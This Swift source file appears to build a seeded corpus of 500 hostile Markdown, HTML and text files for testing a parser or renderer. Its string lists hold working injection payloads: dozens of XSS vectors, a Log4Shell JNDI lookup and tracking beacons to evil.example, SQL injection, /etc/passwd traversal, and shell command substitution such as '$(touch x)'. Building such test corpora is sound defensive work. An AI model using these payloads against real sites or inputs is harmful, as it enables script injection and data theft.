import Foundation

/// A file that means harm, or was harmed.
struct HostileInput {
  var name: String
  var bytes: [UInt8]
}

/// Numbers that are the same in every run.
struct SeededNumbers {
  private var state: UInt64

  init(seed: UInt64) { state = seed &* 0x9e37_79b9_7f4a_7c15 | 1 }

  mutating func next(below bound: Int) -> Int {
    state ^= state << 13
    state ^= state >> 7
    state ^= state << 17
    return Int(state >> 11) % bound
  }

  mutating func pick<Element>(_ elements: [Element]) -> Element {
    elements[next(below: elements.count)]
  }
}

/// Five hundred hostile files: fifty of each of ten classes, from a fixed seed.
enum HostileInputs {
  static let classes: [(name: String, make: @Sendable (Int, inout SeededNumbers) -> HostileInput)] =
    [
      ("naughty", naughty), ("vector", vector), ("control", control), ("terminator", terminator),
      ("surrogate", surrogate), ("bidi", bidi), ("long", long), ("deep", deep), ("links", links),
      ("noise", noise),
    ]

  static func all() -> [HostileInput] {
    classes.enumerated().flatMap { position, kind in
      (0..<50).map { index in
        var numbers = SeededNumbers(seed: UInt64(1 + position * 1000 + index))
        var input = kind.make(index, &numbers)
        input.name = "\(kind.name)-\(index)" + input.name
        return input
      }
    }
  }

  private static let words = [
    "quay", "crane", "tide", "ledger", "clerk", "winch", "ferry", "buoy", "register", "harbour",
    "mill",
    "lantern", "anchor", "sluice", "barge", "pilot",
  ]

  private static func sentence(_ numbers: inout SeededNumbers, _ count: Int = 14) -> String {
    (0..<count).map { _ in numbers.pick(words) }.joined(separator: " ").capitalized + "."
  }

  /// A Markdown file with that title, stated as a double-quoted scalar, and that body.
  private static func markdown(
    _ title: String, _ body: String, _ numbers: inout SeededNumbers
  ) -> HostileInput {
    let escaped = title.unicodeScalars.map { scalar -> String in
      switch scalar {
      case "\"": "\\\""
      case "\\": "\\\\"
      default:
        scalar.value < 32 || (0x7f..<0xa0).contains(scalar.value)
          ? String(format: "\\x%02x", scalar.value) : String(scalar)
      }
    }.joined()
    let text =
      "---\ntitle: \"\(escaped)\"\ndate: 2026-05-\(10 + numbers.next(below: 19))T08:00:00Z\n---\n\n"
    return HostileInput(
      name: ".md", bytes: Array((text + body + "\n\n" + sentence(&numbers, 40) + "\n").utf8))
  }

  private static func html(_ title: String, _ body: String, _ numbers: inout SeededNumbers)
    -> HostileInput
  {
    let page =
      "<h1>\(title)</h1><p>\(sentence(&numbers, 30))</p>\(body)<p>\(sentence(&numbers, 30))</p>"
    return HostileInput(name: ".html", bytes: Array(page.utf8))
  }

  // MARK: Classes

  private static func naughty(_ index: Int, _ numbers: inout SeededNumbers) -> HostileInput {
    let strings = [
      "undefined", "null", "NaN", "true", "-1/0", "1e400", "0x7fffffff", "../../etc/passwd",
      "%s%n%x",
      "${jndi:ldap://evil.example/a}", "{{7*7}}", "<%= 7*7 %>", "'; DROP TABLE item; --",
      "\" OR \"1\"=\"1",
      "&lt;script&gt;pwn()&lt;/script&gt;", "&amp;amp;amp;", "&#x3c;b&#x3e;", "Ω≈ç√∫˜µ≤≥÷", "😀👩‍👩‍👧‍👦🇩🇪",
      "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "ﷺ", "田中さんにあげて下さい", "和製漢語", "ｆｕｌｌｗｉｄｔｈ", "i̇İıI", "ßẞ", "ﬀﬁﬂ", "\u{1F1E6}",
      "a\u{300}\u{301}\u{302}", "\u{200B}\u{FEFF}zero", "CON.txt", "<3 AT&T", "C:\\new\\table",
      "--help",
      "$(touch x)", "`id`", "|| true", "\u{FFFD}", "\u{E000}", "%00", "%0d%0aSet-Cookie: a=b",
      "http://a/%%30%30",
      "＜script＞", "1;2;3", "=1+1", "@SUM(A1)", "\u{2028}\u{2029}", "<!DOCTYPE html>",
      "<?xml version=\"1.0\"?>", "---",
    ]
    let string = strings[index % strings.count]
    return markdown("Quay \(index) \(string)", "\(string)\n\n> \(string)\n\n`\(string)`", &numbers)
  }

  private static func vector(_ index: Int, _ numbers: inout SeededNumbers) -> HostileInput {
    let evil = "https://evil.example/x"
    let vectors = [
      "<script>pwn()</script>", "<img src=x onerror=pwn()>", "<svg onload=pwn()>",
      "<svg><script>pwn()</script></svg>",
      "<iframe src=\"javascript:pwn()\"></iframe>",
      "<iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>",
      "<body onload=pwn()>", "<a href=\"javascript:pwn()\" id=a>x</a>",
      "<a href=\" java\nscript:pwn()\">x</a>",
      "<a href=\"&#106;avascript:pwn()\">x</a>",
      "<form action=\"javascript:pwn()\"><button>x</button></form>",
      "<input autofocus onfocus=pwn()>", "<details open ontoggle=pwn()>x</details>",
      "<video><source onerror=pwn()></video>",
      "<audio src=x onerror=pwn()>", "<object data=\"javascript:pwn()\">",
      "<embed src=\"\(evil).swf\">",
      "<link rel=stylesheet href=\"\(evil).css\">",
      "<style>@import '\(evil).css'; p{background:url(\(evil))}</style>",
      "<p style=\"background:url(\(evil))\">x</p>",
      "<table background=\"\(evil)\"><tr><td>x</table>",
      "<meta http-equiv=refresh content=\"0;url=\(evil)\">",
      "<base href=\"\(evil)/\"><a href=a>x</a>",
      "<math><mtext></p><script>pwn()</script></mtext></math>",
      "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
      "<textarea></textarea><script>pwn()</script>", "<title></title><img src=x onerror=pwn()>",
      "<!--><script>pwn()</script>-->",
      "<img src=\"data:text/html,<script>pwn()</script>\">",
      "<img src='data:image/svg+xml,<svg onload=pwn()>'>",
      "<a href=\"data:text/html,<script>pwn()</script>\">x</a>",
      "<scr<script>ipt>pwn()</scr</script>ipt>",
      "<img/onerror=pwn()/src=x>", "<img src=`x` onerror=`pwn()`>",
      "<p onclick=pwn() onmouseover=pwn()>x</p>",
      "<a href=\"vbscript:pwn()\">x</a>", "<isindex action=javascript:pwn() type=image>",
      "<marquee onstart=pwn()>x</marquee>",
      "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
      "<svg><use href=\"data:image/svg+xml,<svg id=x onload=pwn()>#x\"/>",
      "<template><script>pwn()</script></template>", "<plaintext><script>pwn()</script>",
      "<xmp><img src=x onerror=pwn()></xmp>",
      "<frameset onload=pwn()><frame src=\(evil)></frameset>",
      "<img width=1 height=1 src=\"\(evil).gif\">",
      "<img srcset=\"javascript:pwn() 2x\" src=\"javascript:pwn()\">",
      "<picture><source srcset=\"javascript:pwn()\"><img src=x></picture>",
      "<a ping=\"\(evil)\" href=\"//quay.example/\">x</a>",
      "<ruby><rt><script>pwn()</script></rt></ruby>",
      "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwn()</x:script>",
    ]
    let text = vectors[index % vectors.count]
    return index.isMultiple(of: 2)
      ? html("Crane \(index)", text, &numbers)
      : markdown(
        "Crane \(index) \(text)", text + "\n\n[x](javascript:pwn())\n\n<\(text)>", &numbers)
  }

  private static func control(_ index: Int, _ numbers: inout SeededNumbers) -> HostileInput {
    let low = (0..<32).map { $0 } + (0x7f..<0xa0).map { $0 } + [0xfffe, 0xffff, 0xfffd, 0x2028]
    let text = (0..<40).map { _ -> String in
      // Much more of these than one in five words makes a file binary, which is another matter.
      guard index % 5 == 0 || numbers.next(below: 12) == 0 else { return numbers.pick(words) + " " }
      let scalar = Unicode.Scalar(UInt32(numbers.pick(low))).map { Character($0) } ?? "?"
      return numbers.pick(words) + String(scalar)
    }.joined()
    return markdown("Buoy \(index) \(text.prefix(60))", text, &numbers)
  }

  private static func terminator(_ index: Int, _ numbers: inout SeededNumbers) -> HostileInput {
    let pieces = [
      "]]>", "<![CDATA[", "]]&gt;", "&", "&amp;", "&#0;", "&#xD800;", "&nbsp;", "&bogus;", "<", ">",
      "--", "<!--", "-->", "<?php", "?>", "\"", "'", "\\", "</content>", "</entry>", "</script>",
      "{{{", "}}}",
    ]
    let text = (0..<12).map { _ in numbers.pick(pieces) + numbers.pick(words) }.joined(
      separator: " ")
    return index.isMultiple(of: 2)
      ? markdown("Tide \(index) \(text)", text, &numbers)
      : html("Tide \(index) \(text)", text, &numbers)
  }

  private static func surrogate(_ index: Int, _ numbers: inout SeededNumbers) -> HostileInput {
    var units = Array("Lantern \(index) on the quay\n\n".utf16)
    for _ in 0..<60 {
      units += Array((numbers.pick(words) + " ").utf16)
      if numbers.next(below: 4) == 0 { units.append(UInt16(0xD800 + numbers.next(below: 0x800))) }
      if numbers.next(below: 9) == 0 { units += Array(". ".utf16) }
    }
    units += Array(".\n".utf16)
    let isLittle = index.isMultiple(of: 2)
    let bytes = ([0xFEFF] + units).flatMap { unit in
      isLittle
        ? [UInt8(truncatingIfNeeded: unit), UInt8(truncatingIfNeeded: unit >> 8)]
        : [UInt8(truncatingIfNeeded: unit >> 8), UInt8(truncatingIfNeeded: unit)]
    }
    return HostileInput(name: ".txt", bytes: bytes)
  }

  private static func bidi(_ index: Int, _ numbers: inout SeededNumbers) -> HostileInput {
    let marks = [
      "\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}", "\u{2066}", "\u{2067}",
      "\u{2068}", "\u{2069}", "\u{200E}", "\u{200F}", "\u{061C}", "שלום", "مرحبا",
    ]
    let text = (0..<20).map { _ in numbers.pick(words) + numbers.pick(marks) }.joined(
      separator: " ")
    return markdown("Mill \(index) \(text)", text, &numbers)
  }

  private static func long(_ index: Int, _ numbers: inout SeededNumbers) -> HostileInput {
    let size = index == 0 ? 1 << 20 : index < 10 ? 1 << 15 : 1 << numbers.next(below: 12)
    let unit = numbers.pick(["a", "é ", "漢", "<&> ", "a\u{301}", "👩‍👩‍👧 ", "word "])
    let title = String(repeating: unit, count: max(1, size / unit.utf8.count))
    return index % 3 == 2 || index == 0
      ? HostileInput(
        name: ".txt", bytes: Array("Sluice \(index) \(title)\n\n\(sentence(&numbers, 60))\n".utf8))
      : markdown("Sluice \(index) \(title)", title, &numbers)
  }

  private static func deep(_ index: Int, _ numbers: inout SeededNumbers) -> HostileInput {
    let depth = index == 0 ? 20_000 : index < 6 ? 900 : 10 + numbers.next(below: 230)
    let tag = numbers.pick([
      "div", "b", "blockquote", "ul><li", "table><tr><td", "span", "sup",
      "a href=https://quay.example/",
    ])
    if index % 4 == 3 {
      let quotes = String(repeating: "> ", count: min(depth, 400)) + "deep"
      return markdown(
        "Barge \(index)", quotes + "\n\n" + String(repeating: "*a ", count: 200), &numbers)
    }
    return html(
      "Barge \(index)", String(repeating: "<\(tag)>", count: depth) + sentence(&numbers), &numbers)
  }

  private static func links(_ index: Int, _ numbers: inout SeededNumbers) -> HostileInput {
    let count = index == 0 ? 100_000 : 1 + numbers.next(below: 2000)
    let targets = [
      "https://quay.example/\(index)?a=1&b=2", "//quay.example/x", "/rooted", "#here",
      "mailto:a@quay.example", "https://quay.example/ü ö", "javascript:pwn()",
    ]
    let text = (0..<count).map { "<a href=\"\(targets[$0 % targets.count])\">l\($0)</a> " }
      .joined()
    return html("Pilot \(index)", "<p>\(text)</p>", &numbers)
  }

  private static func noise(_ index: Int, _ numbers: inout SeededNumbers) -> HostileInput {
    let head = Array("Anchor \(index) in the noise\n\n\(sentence(&numbers, 20))\n\n".utf8)
    let bytes = (0..<2000).map { _ in
      numbers.next(below: 3) == 0
        ? UInt8(128 + numbers.next(below: 128)) : UInt8(32 + numbers.next(below: 95))
    }
    return HostileInput(name: numbers.pick([".txt", ".md", ".html"]), bytes: head + bytes)
  }
}
